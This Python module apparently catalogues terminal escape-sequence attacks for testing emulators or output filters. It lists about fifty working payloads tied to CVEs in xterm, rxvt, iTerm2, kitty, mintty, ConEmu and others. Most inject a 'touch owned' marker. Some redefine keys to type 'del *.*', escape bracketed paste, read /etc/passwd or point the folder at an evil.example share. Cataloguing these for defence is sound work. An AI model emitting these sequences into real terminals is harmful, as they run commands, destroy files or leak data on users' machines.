"""Attacks that run something, write something, or leave the terminal by another way."""

from __future__ import annotations

from typing import Final

from .base import BEL, CONEMU, CSI, DCS, DEC, ESC, ITERM, KITTY, OSC, ST, XTERM, Attack

RUNS: Final = (
    Attack("redefines keys, which then type commands", f"{DCS}0;1|17/746f756368{ST}", "CVE-2003-0071 (xterm, DECUDK)"),
    Attack("redefines a key, ANSI.SYS", f'{CSI}0;59;"touch owned";13p', "PC Magazine, ANSI bombs; MS-DOS ANSI.SYS"),
    Attack("redefines the F1 key, ANSI.SYS", f'{CSI}65;"del *.*"p', "MS-DOS ANSI.SYS"),
    Attack("runs what a graphics reply types, urxvt", f"{ESC}GQ;touch owned\n", "CVE-2021-33477 (rxvt-unicode)"),
    Attack("runs what the background extension evaluates", f"{OSC}20;pixmap;op=keep{BEL}", "CVE-2022-4170 (rxvt)"),
    Attack("runs a notification's command, kitty", f"{OSC}99;i=1;touch owned{ST}", "CVE-2022-41322 (kitty)"),
    Attack(
        "opens a page of a manual that runs",
        f"{OSC}8;;x-man-page://-Ptouch owned{ST}m{OSC}8;;{ST}",
        "CVE-2023-46321 (iTerm2)",
    ),
    Attack(
        "opens an ssh address that runs", f"{OSC}8;;ssh://-oProxyCommand=x{ST}s{OSC}8;;{ST}", "CVE-2023-46322 (iTerm2)"
    ),
    Attack("begins tmux's control mode", f"{DCS}1000p%begin 1 1 1\r\n", "CVE-2019-9535 (iTerm2)"),
    Attack("begins the conductor of ssh", f"{DCS}2000p{ST}", "CVE-2023-46300 (iTerm2)"),
    Attack("begins an upload of the conductor", f"{OSC}135;:u{ST}", "CVE-2023-46301 (iTerm2)"),
    Attack("sets a title that a menu runs, Terminology", f"{ESC}}}fn-touch owned\0", "CVE-2015-8971 (Terminology)"),
    Attack("pops up a file that runs, Terminology", f"{ESC}}}pn/tmp/owned\0", "CVE-2018-20167 (Terminology)"),
    Attack("dumps the screen to a file, Eterm", f"{OSC}30;/tmp/owned{BEL}", "CVE-2003-0021 (Eterm)"),
    Attack("dumps the screen to a file, rxvt", f"{OSC}55;/tmp/owned{BEL}", "CVE-2003-0022 (rxvt)"),
    Attack("makes a menu that types, rxvt", f"{OSC}703;/add;touch owned\\n{BEL}", "CVE-2003-0023 (rxvt)"),
    Attack("makes a menu that types, aterm", f"{OSC}10;[menu:x] touch owned{BEL}", "CVE-2003-0024 (aterm)"),
    Attack("resizes windows, which Debian's xterm allowed", f"{CSI}8;1;1t", "CVE-2006-7236 (xterm)"),
    Attack("types past bracketed paste", f"{CSI}201~touch owned\r", "CVE-2021-31701 (mintty)"),
    Attack("types past bracketed paste, ZOC", f"{CSI}201~\rtouch owned\r{CSI}200~", "CVE-2021-40147 (ZOC)"),
    Attack("types what it prints unescaped, mintty", f"{OSC}7704;?;touch owned{BEL}", "CVE-2022-47583 (mintty)"),
    Attack("runs through the clipboard", f"{OSC}52;c;dG91Y2ggb3duZWQK{BEL}", XTERM),
    Attack("runs through the primary selection", f"{OSC}52;p;dG91Y2ggb3duZWQK{ST}", XTERM),
    Attack("runs through kitty's clipboard", f"{OSC}5522;type=write{ST}", KITTY),
    Attack("fills the clipboard, iTerm2", f"{OSC}1337;Copy=:dG91Y2g={BEL}", ITERM),
    Attack("writes a file, iTerm2", f"{OSC}1337;File=name=b3duZWQ=;size=1:QQ=={BEL}", ITERM),
    Attack("sets the profile, iTerm2", f"{OSC}1337;SetProfile=x{BEL}", ITERM),
    Attack("asks for attention without end", f"{OSC}1337;RequestAttention=fireworks{BEL}", ITERM),
    Attack("clears what was read, iTerm2", f"{OSC}1337;ClearScrollback{BEL}", ITERM),
    Attack("names a host and a folder", f"{OSC}1337;RemoteHost=root@bank.example{BEL}", ITERM),
    Attack("makes a button that types", f"{OSC}1337;Button=type=copy;block=x{BEL}", ITERM),
    Attack("remote controls kitty", f'{DCS}@kitty-cmd{{"cmd":"launch"}}{ST}', KITTY),
    Attack("reads a file as a picture, kitty", f"{ESC}_Ga=T,t=f;L2V0Yy9wYXNzd2Q={ST}", KITTY),
    Attack("deletes a file that it showed, kitty", f"{ESC}_Ga=T,t=t;L3RtcC9vd25lZA=={ST}", KITTY),
    Attack("sends files, kitty", f"{OSC}5113;ac=send;id=1{ST}", KITTY),
    Attack("runs a macro of ConEmu", f"{OSC}9;6;shell(touch){BEL}", CONEMU),
    Attack("starts a process by ConEmu's message box", f"{OSC}9;2;owned{BEL}", CONEMU),
    Attack("changes ConEmu's tab", f"{OSC}9;3;owned{BEL}", CONEMU),
    Attack("notifies, urxvt", f"{OSC}777;notify;Bank;Call us{BEL}", "rxvt-unicode, extension notify"),
    Attack("notifies, iTerm2 and Windows Terminal", f"{OSC}9;Your session ends{BEL}", ITERM),
    Attack("sets the folder of new windows", f"{OSC}7;file://evil.example/tmp{BEL}", "VTE, OSC 7"),
    Attack(
        "sets the folder, Windows Terminal",
        f'{OSC}9;9;"\\\\evil.example\\share"{BEL}',
        "CVE-2022-44702 (Windows Terminal)",
    ),
    Attack("marks a prompt and a command", f"{OSC}133;A{BEL}{OSC}133;C{BEL}", "FinalTerm, semantic prompts"),
    Attack("marks a command, VS Code", f"{OSC}633;E;touch owned{BEL}", "VS Code, shell integration"),
    Attack("defines macros", f"{DCS}1;0;0!z1b5b324a{ST}{CSI}1*z", DEC),
    Attack("loads soft characters", f"{DCS}1;1;0{{ @????/????{ST}", DEC),
    Attack("restores a presentation", f"{DCS}1$t1;1;1;@;@;@;0;0;@;B0UK{ST}", DEC),
    Attack("sets termcap entries", f"{DCS}+p544e=78{ST}", XTERM),
    Attack("logs to a file", f"{CSI}?46h", "xterm, mode 46; Tektronix COPY"),
    Attack("names the log", f"{OSC}46;/tmp/owned{BEL}", "xterm, OSC 46"),
    Attack("prints the screen", f"{CSI}0i", DEC),
    Attack("prints what follows", f"{CSI}5itouch owned\n{CSI}4i", DEC),
    Attack("prints the line of the cursor", f"{CSI}?1i", DEC),
)
